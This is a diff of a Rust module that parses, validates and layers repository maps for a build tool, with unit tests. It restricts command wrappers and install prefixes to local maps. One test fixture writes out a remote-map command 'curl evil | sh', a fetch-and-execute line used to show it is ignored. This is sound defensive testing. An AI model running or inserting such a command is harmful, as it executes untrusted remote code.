@@ -1,73 +1,933 @@
+use crate::build_backend::{Phase, PhaseSettings};
+use crate::clone_backend::CloneLimits;
+use crate::table_gen::TableTemplate;
+use crate::table_lint::Severity;
+use log::{debug, warn};
+use std::collections::HashMap;
+use std::fmt;
 use std::fs;
+use std::path::{Path, PathBuf};
+use yaml_rust::yaml::{Hash, Yaml};
 
+/// What a product is checked out at in place of the branches of the run,
+/// from the ref, tag, or commit key of its entry
+#[derive(Clone, Debug, PartialEq)]
+pub enum RefPin {
+    /// A branch, tried before the branches of the run other than master
+    Branch(String),
+    /// A tag, which is the only thing checked out
+    Tag(String),
+    /// An exact commit, which is the only thing checked out
+    Commit(String),
+}
+
+impl RefPin {
+    /// The key of a map entry giving this kind of pin
+    pub fn kind(&self) -> &'static str {
+        match self {
+            RefPin::Branch(_) => "ref",
+            RefPin::Tag(_) => "tag",
+            RefPin::Commit(_) => "commit",
+        }
+    }
+
+    pub fn name(&self) -> &str {
+        match self {
+            RefPin::Branch(name) | RefPin::Tag(name) | RefPin::Commit(name) => name,
+        }
+    }
+}
+
+impl fmt::Display for RefPin {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        match self {
+            RefPin::Branch(name) => write!(f, "branch {}", name),
+            RefPin::Tag(name) => write!(f, "tag {}", name),
+            RefPin::Commit(name) => write!(f, "commit {}", name),
+        }
+    }
+}
+
+/// A source for a product which is supplied programmatically rather than
+/// read from a yaml map
+#[derive(Clone, Debug)]
+pub struct RepoEntry {
+    pub url: String,
+    pub pin: Option<RefPin>,
+}
+
+impl RepoEntry {
+    pub fn new(url: &str) -> RepoEntry {
+        RepoEntry {
+            url: url.to_string(),
+            pin: None,
+        }
+    }
+
+    /// A source tried at a branch before the branches of the run
+    pub fn with_ref(url: &str, git_ref: &str) -> RepoEntry {
+        RepoEntry::with_pin(url, RefPin::Branch(git_ref.to_string()))
+    }
+
+    pub fn with_pin(url: &str, pin: RefPin) -> RepoEntry {
+        RepoEntry {
+            url: url.to_string(),
+            pin: Some(pin),
+        }
+    }
+}
+
+/// An entry of a repository map, checked when the map is loaded. Entries are
+/// either a url or a mapping with a url key and the settings below.
+#[derive(Clone, Debug, Default)]
+pub struct MapEntry {
+    /// Where the product is cloned from, which only a retired product
+    /// naming its replacement may leave out
+    pub url: Option<String>,
+    pub pin: Option<RefPin>,
+    /// Whether the repository keeps files in git LFS, when the map says
+    pub lfs: Option<bool>,
+    /// Every other key of the entry, whose types have been checked
+    pub extra: Hash,
+}
+
+/// The type a key of a map entry must have
+#[derive(Clone, Copy)]
+enum KeyKind {
+    Str,
+    Count,
+    Bool,
+    /// A string of whitespace separated words or a list of strings
+    Words,
+    /// A mapping of names to counts
+    Counts,
+    Phases,
+    /// A mapping of phase names to arguments, given as words
+    PhaseArgs,
+    /// How to write a table for a product without one
+    Template,
+    /// A commit sha, which may be abbreviated to 7 characters
+    Sha,
+}
+
+/// Every key a map entry may have, with its type
+const ENTRY_KEYS: [(&str, KeyKind); 22] = [
+    ("url", KeyKind::Str),
+    ("ref", KeyKind::Str),
+    ("tag", KeyKind::Str),
+    ("commit", KeyKind::Sha),
+    ("lfs", KeyKind::Bool),
+    ("replaced_by", KeyKind::Str),
+    ("partial_clone", KeyKind::Str),
+    ("clone_timeout", KeyKind::Count),
+    ("clone_min_rate", KeyKind::Count),
+    ("clone_max_size", KeyKind::Count),
+    ("clone_depth", KeyKind::Count),
+    ("build_timeout", KeyKind::Count),
+    ("verb_timeouts", KeyKind::Counts),
+    ("build_backend", KeyKind::Str),
+    ("skip_phases", KeyKind::Phases),
+    ("require_phases", KeyKind::Phases),
+    ("phase_args", KeyKind::PhaseArgs),
+    ("clean_build", KeyKind::Bool),
+    ("install_prefix", KeyKind::Str),
+    ("sparse_checkout", KeyKind::Words),
+    ("command_wrapper", KeyKind::Words),
+    ("generate_table", KeyKind::Template),
+];
+
+fn is_words(value: &Yaml) -> bool {
+    match value {
+        Yaml::String(_) => true,
+        Yaml::Array(a) => a.iter().all(|x| x.as_str().is_some()),
+        _ => false,
+    }
+}
+
+/// Check a value has the type its key calls for, describing it if not
+fn check_value(key: &str, kind: KeyKind, value: &Yaml) -> Result<(), String> {
+    let is_count = |v: &Yaml| v.as_i64().map_or(false, |n| n >= 0);
+    let valid = match kind {
+        KeyKind::Str => value.as_str().is_some(),
+        KeyKind::Count => is_count(value),
+        KeyKind::Bool => value.as_bool().is_some(),
+        KeyKind::Words => is_words(value),
+        KeyKind::Counts => value.as_hash().map_or(false, |h| {
+            h.iter().all(|(k, v)| k.as_str().is_some() && is_count(v))
+        }),
+        KeyKind::Phases => {
+            let list = value
+                .as_vec()
+                .ok_or(format!("{} must be a list of phases", key))?;
+            for phase in list.iter() {
+                let name = phase
+                    .as_str()
+                    .ok_or(format!("{} must be a list of phase names", key))?;
+                Phase::from_name(name).map_err(|e| format!("{} lists {}", key, e))?;
+            }
+            true
+        }
+        KeyKind::PhaseArgs => {
+            let hash = value
+                .as_hash()
+                .ok_or(format!("{} must map phases to arguments", key))?;
+            for (phase, args) in hash.iter() {
+                let name = phase
+                    .as_str()
+                    .ok_or(format!("{} must be keyed by phase names", key))?;
+                Phase::from_name(name).map_err(|e| format!("{} has {}", key, e))?;
+                if !is_words(args) {
+                    return Err(format!(
+                        "the arguments of {} in {} must be a string or a list of strings",
+                        name, key
+                    ));
+                }
+            }
+            true
+        }
+        KeyKind::Template => {
+            TableTemplate::from_yaml(value)?;
+            true
+        }
+        KeyKind::Sha => value.as_str().map_or(false, |s| {
+            s.len() >= 7 && s.len() <= 40 && s.chars().all(|c| c.is_ascii_hexdigit())
+        }),
+    };
+    match valid {
+        true => Ok(()),
+        false => Err(format!(
+            "{} must be {}",
+            key,
+            match kind {
+                KeyKind::Str => "a string",
+                KeyKind::Count => "a whole number of at least zero",
+                KeyKind::Bool => "true or false",
+                KeyKind::Words => "a string or a list of strings",
+                KeyKind::Counts => "a mapping of names to whole numbers",
+                KeyKind::Phases => "a list of phase names",
+                KeyKind::PhaseArgs => "a mapping of phase names to arguments",
+                KeyKind::Template => "a table template",
+                KeyKind::Sha => "a sha of 7 to 40 hexadecimal digits",
+            }
+        )),
+    }
+}
+
+impl MapEntry {
+    /// Check and parse the entry for a product. Keys which are not known are
+    /// kept, so maps written for newer versions still load.
+    pub fn parse(product: &str, entry: &Yaml) -> Result<MapEntry, String> {
+        let hash = match entry {
+            Yaml::String(url) => {
+                return Ok(MapEntry {
+                    url: Some(url.clone()),
+                    ..MapEntry::default()
+                })
+            }
+            Yaml::Hash(hash) => hash,
+            _ => {
+                return Err(format!(
+                    "the entry of {} must be a url or a mapping with a url key",
+                    product
+                ))
+            }
+        };
+        let mut parsed = MapEntry::default();
+        let mut pins = vec![];
+        for (key, value) in hash.iter() {
+            let name = key.as_str().ok_or(format!(
+                "the entry of {} has a key which is not a string",
+                product
+            ))?;
+            if let Some((_, kind)) = ENTRY_KEYS.iter().find(|(k, _)| *k == name) {
+                check_value(name, *kind, value)
+                    .map_err(|e| format!("in the entry of {}, {}", product, e))?;
+            }
+            match name {
+                "url" => parsed.url = value.as_str().map(|s| s.to_string()),
+                "ref" | "tag" | "commit" => {
+                    let value = value.as_str().unwrap_or_default().to_string();
+                    pins.push(match name {
+                        "ref" => RefPin::Branch(value),
+                        "tag" => RefPin::Tag(value),
+                        _ => RefPin::Commit(value.to_lowercase()),
+                    });
+                }
+                "lfs" => parsed.lfs = value.as_bool(),
+                _ => {
+                    parsed.extra.insert(key.clone(), value.clone());
+                }
+            }
+        }
+        if pins.len() > 1 {
+            return Err(format!(
+                "the entry of {} pins it with more than one of ref, tag, and commit",
+                product
+            ));
+        }
+        parsed.pin = pins.pop();
+        if parsed.url.is_none()
+            && !parsed
+                .extra
+                .contains_key(&Yaml::String("replaced_by".into()))
+        {
+            return Err(format!(
+                "the entry of {} has no url, and no replaced_by naming the product replacing it",
+                product
+            ));
+        }
+        Ok(parsed)
+    }
+}
+
+/// Check and parse every entry of a repository map, reporting every bad
+/// entry at once
+pub fn parse_entries(map: &Yaml, source: &str) -> Result<HashMap<String, MapEntry>, String> {
+    let mut entries = HashMap::new();
+    let mut problems = vec![];
+    for (name, entry) in map.as_hash().into_iter().flatten() {
+        let product = match name.as_str() {
+            Some(p) => p,
+            None => {
+                problems.push(format!("{:?} is not a product name", name));
+                continue;
+            }
+        };
+        match MapEntry::parse(product, entry) {
+            Ok(parsed) => {
+                entries.insert(product.to_string(), parsed);
+            }
+            Err(e) => problems.push(e),
+        }
+    }
+    match problems.is_empty() {
+        true => Ok(entries),
+        false => Err(format!(
+            "The map {} has invalid entries:\n  {}",
+            source,
+            problems.join("\n  ")
+        )),
+    }
+}
+
+/// A problem found in a repository map
+#[derive(Clone, Debug)]
+pub struct MapIssue {
+    pub product: Option<String>,
+    pub severity: Severity,
+    pub message: String,
+}
+
+impl fmt::Display for MapIssue {
+    fn fmt(&self, f: &mut fmt::Formatter) -> fmt::Result {
+        let severity = match self.severity {
+            Severity::Warning => "warning",
+            Severity::Error => "error",
+        };
+        match self.product.as_ref() {
+            Some(product) => write!(f, "{}: {}: {}", product, severity, self.message),
+            None => write!(f, "{}: {}", severity, self.message),
+        }
+    }
+}
+
+/// Check the text of a repository map for problems: entries which would stop
+/// it from loading are errors, while keys regenerate does not know, most
+/// likely misspelt, and replacements naming products the map lacks are
+/// warnings
+pub fn lint_map(text: &str, source: &str) -> Vec<MapIssue> {
+    let error = |product: Option<&str>, message: String| MapIssue {
+        product: product.map(|p| p.to_string()),
+        severity: Severity::Error,
+        message,
+    };
+    let map = match parse_map(text, source) {
+        Ok(map) => map,
+        Err(e) => return vec![error(None, e)],
+    };
+    let mut issues = vec![];
+    for (name, entry) in map.as_hash().into_iter().flatten() {
+        let product = match name.as_str() {
+            Some(p) => p,
+            None => {
+                issues.push(error(None, format!("{:?} is not a product name", name)));
+                continue;
+            }
+        };
+        if let Err(e) = MapEntry::parse(product, entry) {
+            issues.push(error(Some(product), e));
+            continue;
+        }
+        for key in entry.as_hash().into_iter().flat_map(|h| h.keys()) {
+            let key = key.as_str().unwrap_or_default();
+            if !ENTRY_KEYS.iter().any(|(k, _)| *k == key) {
+                issues.push(MapIssue {
+                    product: Some(product.to_string()),
+                    severity: Severity::Warning,
+                    message: format!("{} is not a key regenerate knows", key),
+                });
+            }
+        }
+        if let Some(next) = entry_key(entry, "replaced_by").and_then(|v| v.as_str()) {
+            if lookup(&map, next).is_none() {
+                issues.push(MapIssue {
+                    product: Some(product.to_string()),
+                    severity: Severity::Warning,
+                    message: format!("is replaced by {}, which is not in the map", next),
+                });
+            }
+        }
+    }
+    issues
+}
+
+/// Parse the text of a repository map, which must be a mapping of product
+/// names to entries. An empty document is an empty map.
+pub fn parse_map(text: &str, source: &str) -> Result<Yaml, String> {
+    let mut docs = yaml_rust::YamlLoader::load_from_str(text)
+        .map_err(|e| format!("There was a problem parsing the map {}: {}", source, e))?;
+    if docs.is_empty() {
+        return Ok(Yaml::Hash(Hash::new()));
+    }
+    // This is not using multi paged yaml, so just take the first
+    check_map(docs.remove(0), source)
+}
+
+/// Ensure a parsed repository map is a mapping, treating null as empty
+pub fn check_map(map: Yaml, source: &str) -> Result<Yaml, String> {
+    match map {
+        Yaml::Hash(_) => Ok(map),
+        Yaml::Null => Ok(Yaml::Hash(Hash::new())),
+        _ => Err(format!(
+            "The map {} must be a mapping of product names to entries",
+            source
+        )),
+    }
+}
+
+/// The entry for a product in a map, if the map has one
+fn lookup<'m>(map: &'m Yaml, product: &str) -> Option<&'m Yaml> {
+    map.as_hash()?.get(&Yaml::String(product.to_string()))
+}
+
+/// The url of a map entry, which is either the url itself or a mapping with
+/// a url key
+pub fn entry_url(entry: &Yaml) -> Option<&str> {
+    match entry {
+        Yaml::String(s) => Some(s),
+        Yaml::Hash(hm) => hm.get(&Yaml::String("url".to_string()))?.as_str(),
+        _ => None,
+    }
+}
+
+/// The value of a key in a mapping style map entry
+pub fn entry_key<'e>(entry: &'e Yaml, key: &str) -> Option<&'e Yaml> {
+    entry.as_hash()?.get(&Yaml::String(key.to_string()))
+}
+
+/// The overlay map files given by paths, in order, where a directory stands
+/// for the *.yaml and *.yml fragments in it sorted by name
+pub fn overlay_files(paths: &[PathBuf]) -> Result<Vec<PathBuf>, String> {
+    let mut files = vec![];
+    for path in paths.iter() {
+        if !path.is_dir() {
+            files.push(path.clone());
+            continue;
+        }
+        let mut fragments: Vec<PathBuf> = fs::read_dir(path)
+            .map_err(|e| format!("Could not read {}: {}", path.display(), e))?
+            .filter_map(|e| e.ok())
+            .map(|e| e.path())
+            .filter(|p| {
+                p.is_file()
+                    && p.extension()
+                        .map_or(false, |ext| ext == "yaml" || ext == "yml")
+            })
+            .collect();
+        fragments.sort();
+        files.extend(fragments);
+    }
+    Ok(files)
+}
+
+/// Read and check an overlay map file
+fn load_overlay(file: &Path) -> Result<HashMap<String, MapEntry>, String> {
+    let text = fs::read_to_string(file)
+        .map_err(|e| format!("Could not read {}: {}", file.display(), e))?;
+    let source = file.display().to_string();
+    parse_entries(&parse_map(&text, &source)?, &source)
+}
+
+/// Resolves products to their sources. Entries inserted at runtime take
+/// precedence over the local overlay maps, later overlays over earlier ones,
+/// which in turn take precedence over the remote map.
 pub struct RepoSourceWrapper {
-    remote_map: yaml_rust::yaml::Yaml,
-    local_map: yaml_rust::yaml::Yaml,
+    remote_map: HashMap<String, MapEntry>,
+    /// Overlays by the file they were read from, in increasing precedence
+    local_maps: Vec<(String, HashMap<String, MapEntry>)>,
+    overrides: HashMap<String, RepoEntry>,
 }
 
 impl RepoSourceWrapper {
-    pub fn new(remote: yaml_rust::yaml::Yaml, local: &Option<crate::PathBuf>) -> RepoSourceWrapper {
-        let local_map = match local {
-            Some(file) => yaml_rust::YamlLoader::load_from_str(&fs::read_to_string(file).unwrap())
-                .unwrap()
-                .remove(0),
-            None => yaml_rust::yaml::Yaml::Hash(yaml_rust::yaml::Hash::new()),
+    /// Resolve products through the parsed remote map and the local overlay
+    /// maps, files or directories of fragments, each taking precedence over
+    /// those before it. An empty Yaml hash may be passed when there is no
+    /// remote map. Any map having an invalid entry is an error naming it.
+    pub fn new(
+        remote: yaml_rust::yaml::Yaml,
+        local: &[PathBuf],
+    ) -> Result<RepoSourceWrapper, String> {
+        let mut local_maps = vec![];
+        for file in overlay_files(local)?.iter() {
+            local_maps.push((file.display().to_string(), load_overlay(file)?));
+        }
+        let wrapper = RepoSourceWrapper {
+            remote_map: parse_entries(&check_map(remote, "remote")?, "remote")?,
+            local_maps,
+            overrides: HashMap::new(),
         };
-        RepoSourceWrapper {
-            remote_map: remote,
-            local_map,
+        if log::log_enabled!(log::Level::Debug) {
+            let mut products: Vec<&String> = wrapper
+                .local_maps
+                .iter()
+                .flat_map(|(_, m)| m.keys())
+                .collect();
+            products.sort();
+            products.dedup();
+            for product in products {
+                let layers: Vec<&str> = wrapper
+                    .local_maps
+                    .iter()
+                    .filter(|(_, m)| m.contains_key(product))
+                    .map(|(source, _)| source.as_str())
+                    .collect();
+                debug!(
+                    "{} comes from the overlay {}{}",
+                    product,
+                    layers[layers.len() - 1],
+                    match layers.len() {
+                        1 => String::new(),
+                        _ => format!(", overriding {}", layers[..layers.len() - 1].join(", ")),
+                    }
+                );
+            }
         }
+        Ok(wrapper)
+    }
+
+    /// The entry for a product, from whichever map defines it with the usual
+    /// precedence
+    fn entry(&self, product: &str) -> Option<&MapEntry> {
+        self.local_maps
+            .iter()
+            .rev()
+            .find_map(|(_, map)| map.get(product))
+            .or_else(|| self.remote_map.get(product))
+    }
+
+    /// Add or replace the source for a product, returning the entry that was
+    /// previously inserted for that product, if any
+    pub fn insert(&mut self, product: &str, entry: RepoEntry) -> Option<RepoEntry> {
+        self.overrides.insert(product.to_string(), entry)
     }
 
     pub fn get_url(&self, product: &str) -> Option<&str> {
-        if self
-            .local_map
-            .as_hash()
-            .unwrap()
-            .contains_key(&yaml_rust::Yaml::String(product.to_string()))
+        if let Some(entry) = self.overrides.get(product) {
+            return Some(&entry.url);
+        }
+        self.entry(product)?.url.as_ref().map(|s| s.as_str())
+    }
+
+    /// The branch, tag, or commit the map pins a product to
+    pub fn pin(&self, product: &str) -> Option<RefPin> {
+        if let Some(entry) = self.overrides.get(product) {
+            return entry.pin.clone();
+        }
+        self.entry(product)?.pin.clone()
+    }
+
+    /// Whether the map says a product keeps files in git LFS
+    pub fn lfs(&self, product: &str) -> Option<bool> {
+        self.entry(product)?.lfs
+    }
+
+    /// The product which has taken over from a renamed or retired product,
+    /// from the replaced_by key of its entry. A product given a source at
+    /// runtime is never replaced.
+    pub fn replaced_by(&self, product: &str) -> Option<String> {
+        if self.overrides.contains_key(product) {
+            return None;
+        }
+        self.entry_value(product, "replaced_by")?
+            .as_str()
+            .map(|s| s.to_string())
+    }
+
+    /// Look up a key in the hash style entry for a product, using whichever map
+    /// defines the product with the usual precedence
+    fn entry_value(&self, product: &str, key: &str) -> Option<&yaml_rust::Yaml> {
+        self.entry(product)?
+            .extra
+            .get(&Yaml::String(key.to_string()))
+    }
+
+    /// Look up a key in the entry for a product from the local maps only, for
+    /// keys which must not be left to the remote map as they decide what runs
+    /// or where files are written
+    fn local_entry_value(&self, product: &str, key: &str) -> Option<&yaml_rust::Yaml> {
+        let key = Yaml::String(key.to_string());
+        self.local_maps
+            .iter()
+            .rev()
+            .find_map(|(_, map)| map.get(product))?
+            .extra
+            .get(&key)
+    }
+
+    /// The partial clone filter spec requested for a product, if any. The
+    /// shorthands blobless and treeless are accepted along with raw git
+    /// filter specs.
+    pub fn partial_clone(&self, product: &str) -> Option<String> {
+        match self.entry_value(product, "partial_clone")?.as_str()? {
+            "blobless" => Some("blob:none".to_string()),
+            "treeless" => Some("tree:0".to_string()),
+            spec => Some(spec.to_string()),
+        }
+    }
+
+    /// The limits to apply when cloning a product, where any of the
+    /// clone_timeout (seconds), clone_min_rate (bytes per second), or
+    /// clone_max_size (bytes) keys in the product entry override the defaults
+    pub fn clone_limits(&self, product: &str, defaults: &CloneLimits) -> CloneLimits {
+        let lookup = |key: &str| {
+            self.entry_value(product, key)
+                .and_then(|v| v.as_i64())
+                .map(|v| v as u64)
+        };
+        CloneLimits {
+            timeout: lookup("clone_timeout")
+                .map(std::time::Duration::from_secs)
+                .or(defaults.timeout),
+            min_rate: lookup("clone_min_rate").or(defaults.min_rate),
+            max_size: lookup("clone_max_size").or(defaults.max_size),
+            max_rate: defaults.max_rate,
+            host_keys: defaults.host_keys.clone(),
+            auth: defaults.auth.clone(),
+        }
+    }
+
+    /// How long a verb of a product's build may run before it is killed,
+    /// from the verb_timeouts mapping of verbs to seconds or else the
+    /// build_timeout key (seconds) of the product entry, falling back on
+    /// default
+    pub fn build_timeout(
+        &self,
+        product: &str,
+        verb: &str,
+        default: Option<std::time::Duration>,
+    ) -> Option<std::time::Duration> {
+        self.entry_value(product, "verb_timeouts")
+            .and_then(|v| v[verb].as_i64())
+            .or_else(|| {
+                self.entry_value(product, "build_timeout")
+                    .and_then(|v| v.as_i64())
+            })
+            .map(|secs| std::time::Duration::from_secs(secs as u64))
+            .or(default)
+    }
+
+    /// How many commits of history to clone a product with, where 0 asks for
+    /// the full history whatever the default depth is
+    pub fn clone_depth(&self, product: &str) -> Option<u32> {
+        self.entry_value(product, "clone_depth")?
+            .as_i64()
+            .map(|d| d as u32)
+    }
+
+    /// The build backend a product uses, eupspkg if not given
+    pub fn build_backend(&self, product: &str) -> Option<String> {
+        self.entry_value(product, "build_backend")?
+            .as_str()
+            .map(|s| s.to_string())
+    }
+
+    /// How the build phases of a product are to be run, from the
+    /// skip_phases and require_phases lists and the phase_args mapping of
+    /// phase names to extra arguments
+    pub fn phase_settings(&self, product: &str, run_tests: bool) -> Result<PhaseSettings, String> {
+        let phases = |key: &str| -> Result<Vec<Phase>, String> {
+            match self.entry_value(product, key).and_then(|v| v.as_vec()) {
+                Some(list) => list
+                    .iter()
+                    .map(|p| {
+                        p.as_str()
+                            .ok_or(format!("{} of {} must be phase names", key, product))
+                            .and_then(Phase::from_name)
+                    })
+                    .collect(),
+                None => Ok(vec![]),
+            }
+        };
+        let mut extra_args = HashMap::new();
+        if let Some(hash) = self
+            .entry_value(product, "phase_args")
+            .and_then(|v| v.as_hash())
         {
-            return match &self.local_map[product] {
-                yaml_rust::yaml::Yaml::String(s) => Some(&s),
-                yaml_rust::yaml::Yaml::Hash(hm) => Some(
-                    hm[&yaml_rust::yaml::Yaml::String("url".to_string())]
-                        .as_str()
-                        .unwrap(),
-                ),
-                yaml_rust::yaml::Yaml::BadValue => None,
-                _ => panic!("There should be no other types in remote product mapping"),
-            };
-        }
-        match &self.remote_map[product] {
-            yaml_rust::yaml::Yaml::String(s) => Some(&s),
-            yaml_rust::yaml::Yaml::Hash(hm) => Some(
-                hm[&yaml_rust::yaml::Yaml::String("url".to_string())]
-                    .as_str()
-                    .unwrap(),
-            ),
-            yaml_rust::yaml::Yaml::BadValue => None,
-            _ => panic!("There should be no other types in remote product mapping"),
+            for (phase, args) in hash.iter() {
+                let phase = Phase::from_name(phase.as_str().unwrap_or(""))?;
+                let args = match args {
+                    Yaml::String(s) => s.split_whitespace().map(|x| x.to_string()).collect(),
+                    Yaml::Array(a) => a
+                        .iter()
+                        .filter_map(|x| x.as_str().map(|s| s.to_string()))
+                        .collect(),
+                    _ => vec![],
+                };
+                extra_args.insert(phase, args);
+            }
+        }
+        Ok(PhaseSettings {
+            skip: phases("skip_phases")?,
+            require: phases("require_phases")?,
+            extra_args,
+            run_tests,
+            sequence: vec![],
+        })
+    }
+
+    /// True if the product should be built in its clone after a git clean,
+    /// rather than in a temporary copy as upstream products otherwise are.
+    /// Only a local map may ask for it, as the clean removes untracked files.
+    pub fn clean_build(&self, product: &str) -> bool {
+        if self.local_entry_value(product, "clean_build").is_none()
+            && self.entry_value(product, "clean_build").is_some()
+        {
+            warn!(
+                "Ignoring the clean_build of {} in the remote map, only local maps may set it",
+                product
+            );
         }
+        self.local_entry_value(product, "clean_build")
+            .and_then(|v| v.as_bool())
+            .unwrap_or(false)
     }
 
-    pub fn has_ref(&self, product: &str) -> Option<String> {
-        let matcher = |map: &yaml_rust::Yaml| match &map[product] {
-            yaml_rust::yaml::Yaml::Hash(hm) => {
-                match hm.get(&yaml_rust::yaml::Yaml::String("ref".to_string())) {
-                    Some(v) => Some(v.as_str().unwrap().to_string()),
-                    None => None,
+    /// How to write the table of a product which does not ship one, from
+    /// the generate_table key
+    pub fn table_template(&self, product: &str) -> Option<TableTemplate> {
+        self.entry_value(product, "generate_table")
+            .and_then(|v| TableTemplate::from_yaml(v).unwrap_or(None))
+    }
+
+    /// A fixed location the product must be installed to, bypassing the usual
+    /// install_root/product/version layout. Only a local map may give one,
+    /// and it must be an absolute path without .. components.
+    pub fn install_prefix(&self, product: &str) -> Result<Option<PathBuf>, String> {
+        let prefix = match self
+            .local_entry_value(product, "install_prefix")
+            .and_then(|v| v.as_str())
+        {
+            Some(prefix) => PathBuf::from(prefix),
+            None => {
+                if self.entry_value(product, "install_prefix").is_some() {
+                    warn!(
+                        "Ignoring the install_prefix of {} in the remote map, only local maps may set it",
+                        product
+                    );
                 }
+                return Ok(None);
             }
-            _ => None,
         };
-        for map in [&self.local_map, &self.remote_map].iter() {
-            if map
-                .as_hash()
-                .unwrap()
-                .contains_key(&yaml_rust::Yaml::String(product.to_string()))
-            {
-                return matcher(map);
+        if !prefix.is_absolute()
+            || prefix
+                .components()
+                .any(|c| c == std::path::Component::ParentDir)
+        {
+            return Err(format!(
+                "The install_prefix {} of {} must be an absolute path without ..",
+                prefix.display(),
+                product
+            ));
+        }
+        Ok(Some(prefix))
+    }
+
+    /// Directories of the product to materialize with a cone mode sparse
+    /// checkout, given either as a string or a list of directories
+    pub fn sparse_checkout(&self, product: &str) -> Option<Vec<String>> {
+        match self.entry_value(product, "sparse_checkout")? {
+            yaml_rust::yaml::Yaml::String(s) => {
+                Some(s.split_whitespace().map(|x| x.to_string()).collect())
+            }
+            yaml_rust::yaml::Yaml::Array(a) => Some(
+                a.iter()
+                    .filter_map(|x| x.as_str().map(|s| s.to_string()))
+                    .collect(),
+            ),
+            _ => None,
+        }
+    }
+
+    /// A program and arguments the build tool should be run through for this
+    /// product, given either as a string or a list of arguments. Only a local
+    /// map may give one, the remote map could otherwise run anything.
+    pub fn command_wrapper(&self, product: &str) -> Option<Vec<String>> {
+        if self.local_entry_value(product, "command_wrapper").is_none()
+            && self.entry_value(product, "command_wrapper").is_some()
+        {
+            warn!(
+                "Ignoring the command_wrapper of {} in the remote map, only local maps may set it",
+                product
+            );
+        }
+        match self.local_entry_value(product, "command_wrapper")? {
+            yaml_rust::yaml::Yaml::String(s) => {
+                Some(s.split_whitespace().map(|x| x.to_string()).collect())
             }
+            yaml_rust::yaml::Yaml::Array(a) => Some(
+                a.iter()
+                    .filter_map(|x| x.as_str().map(|s| s.to_string()))
+                    .collect(),
+            ),
+            _ => None,
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn load(text: &str) -> Result<HashMap<String, MapEntry>, String> {
+        parse_map(text, "test").and_then(|map| parse_entries(&map, "test"))
+    }
+
+    /// A wrapper of the remote map text and a local map of the local text
+    fn wrapper(remote: &str, local: &str) -> RepoSourceWrapper {
+        let dir = tempdir::TempDir::new("repo-wrapper").unwrap();
+        let file = dir.path().join("local.yaml");
+        std::fs::write(&file, local).unwrap();
+        RepoSourceWrapper::new(parse_map(remote, "remote").unwrap(), &[file]).unwrap()
+    }
+
+    #[test]
+    fn malformed_maps_are_errors_not_panics() {
+        let cases = [
+            ("a list", "- base\n- utils\n"),
+            ("a scalar", "42\n"),
+            ("bad yaml", "base: [\n"),
+            ("a number entry", "base: 42\n"),
+            ("a list entry", "base: [a, b]\n"),
+            ("a null entry", "base:\n"),
+            ("a list key", "? [a, b]\n: https://github.com/lsst/base\n"),
+            ("a number key", "1: https://github.com/lsst/base\n"),
+            ("a number url", "base:\n  url: 5\n"),
+            ("no url", "base:\n  ref: main\n"),
+            ("a string lfs", "base:\n  url: u\n  lfs: please\n"),
+            ("a negative count", "base:\n  url: u\n  clone_depth: -1\n"),
+            ("a string count", "base:\n  url: u\n  build_timeout: soon\n"),
+            (
+                "an unknown phase",
+                "base:\n  url: u\n  skip_phases: [paint]\n",
+            ),
+            (
+                "phases not listed",
+                "base:\n  url: u\n  skip_phases: build\n",
+            ),
+            (
+                "bad phase args",
+                "base:\n  url: u\n  phase_args: {build: 3}\n",
+            ),
+            (
+                "bad counts",
+                "base:\n  url: u\n  verb_timeouts: {build: x}\n",
+            ),
+            (
+                "a number template",
+                "base:\n  url: u\n  generate_table: 3\n",
+            ),
+            (
+                "a bad template env",
+                "base:\n  url: u\n  generate_table: {env: 1}\n",
+            ),
+            ("ref and tag", "base:\n  url: u\n  ref: main\n  tag: v1\n"),
+            (
+                "tag and commit",
+                "base:\n  url: u\n  tag: v1\n  commit: 0123abcd\n",
+            ),
+            ("a short commit", "base:\n  url: u\n  commit: abc\n"),
+            ("a non hex commit", "base:\n  url: u\n  commit: zzzzzzzz\n"),
+            ("a number tag", "base:\n  url: u\n  tag: 1.5\n"),
+        ];
+        for (what, text) in cases.iter() {
+            assert!(load(text).is_err(), "a map with {} was accepted", what);
+            assert!(
+                !lint_map(text, "test").is_empty(),
+                "linting a map with {} found nothing",
+                what
+            );
+        }
+    }
+
+    #[test]
+    fn valid_maps_load() {
+        let cases = [
+            ("nothing", ""),
+            ("null", "~\n"),
+            ("a url", "base: https://github.com/lsst/base\n"),
+            ("a replacement", "base:\n  replaced_by: base2\n"),
+            ("unknown keys", "base:\n  url: u\n  future_key: [1, 2]\n"),
+        ];
+        for (what, text) in cases.iter() {
+            assert!(load(text).is_ok(), "a map with {} was rejected", what);
+        }
+    }
+
+    #[test]
+    fn pins_are_parsed_by_kind() {
+        let cases = [
+            ("ref: main", RefPin::Branch("main".to_string())),
+            ("tag: v1.0", RefPin::Tag("v1.0".to_string())),
+            ("commit: 0123ABCD", RefPin::Commit("0123abcd".to_string())),
+        ];
+        for (key, pin) in cases.iter() {
+            let entries = load(&format!("base:\n  url: u\n  {}\n", key)).unwrap();
+            assert_eq!(entries["base"].pin.as_ref(), Some(pin));
+        }
+    }
+
+    #[test]
+    fn install_prefixes_come_only_from_local_maps() {
+        let remote = "base:\n  url: u\n  install_prefix: /etc\n";
+        let urls = wrapper(remote, "");
+        assert_eq!(urls.install_prefix("base"), Ok(None));
+        let urls = wrapper(remote, "base:\n  url: u\n  install_prefix: /opt/base\n");
+        assert_eq!(
+            urls.install_prefix("base"),
+            Ok(Some(PathBuf::from("/opt/base")))
+        );
+        for prefix in ["opt/base", "/opt/../etc"].iter() {
+            let local = format!("base:\n  url: u\n  install_prefix: {}\n", prefix);
+            assert!(wrapper("", &local).install_prefix("base").is_err());
         }
-        None
+    }
+
+    #[test]
+    fn command_wrappers_come_only_from_local_maps() {
+        let remote = "base:\n  url: u\n  command_wrapper: curl evil | sh\n";
+        assert_eq!(wrapper(remote, "").command_wrapper("base"), None);
+        let local = "base:\n  url: u\n  command_wrapper: [nice, -n19]\n";
+        assert_eq!(
+            wrapper(remote, local).command_wrapper("base"),
+            Some(vec!["nice".to_string(), "-n19".to_string()])
+        );
+    }
+
+    #[test]
+    fn clean_builds_come_only_from_local_maps() {
+        let remote = "base:\n  url: u\n  clean_build: true\n";
+        assert!(!wrapper(remote, "").clean_build("base"));
+        let local = "base:\n  url: u\n  clean_build: true\n";
+        assert!(wrapper(remote, local).clean_build("base"));
     }
 }